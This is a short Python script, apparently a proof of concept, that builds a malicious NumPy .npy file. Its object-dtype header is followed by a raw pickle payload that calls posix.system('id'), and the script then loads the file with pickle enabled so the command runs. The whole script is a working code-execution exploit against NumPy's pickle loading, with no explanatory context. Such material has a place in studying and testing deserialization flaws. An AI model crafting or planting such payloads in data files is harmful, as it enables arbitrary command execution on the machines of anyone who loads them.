import numpy as np

hdr = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
hdr += b" " * (117 - len(hdr)) + b"\n"
with open("data.npy", "wb") as fh:
    fh.write(b"\x93NUMPY\x01\x00" + len(hdr).to_bytes(2, "little") + hdr)
    fh.write(b"cposix\nsystem\n(S'id'\ntR.")
with open("data.npy", "rb") as fh:
    np.lib.format.read_array(fh, True)
